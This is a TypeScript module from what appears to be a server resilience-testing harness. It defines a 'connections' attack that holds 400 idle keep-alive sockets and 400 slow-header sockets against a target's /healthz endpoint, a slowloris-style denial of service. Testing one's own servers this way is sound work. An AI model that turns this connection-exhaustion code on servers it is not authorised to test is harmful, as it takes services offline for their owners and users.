import type { Attack } from '../attack.js'
import { holdSockets, type HeldSockets } from '../hold-sockets.js'

export const connections: Attack = {
  name: 'connections',
  describe: '400 idle keep-alive sockets, and 400 that send a byte of a header a second',
  start(target, outcomes) {
    const { host } = new URL(target.baseUrl)
    const request = `GET /healthz HTTP/1.1\r\nHost: ${host}\r\n`
    const hold = (sockets: Pick<HeldSockets, 'opening' | 'more'>) =>
      holdSockets(target, outcomes, { count: 400, openPerSecond: 200, ...sockets })
    const stops = [
      hold({ opening: `${request}\r\n` }),
      hold({ opening: `${request}X-Slow: `, more: 'x' }),
    ]
    return () => stops.forEach((stop) => stop())
  },
}
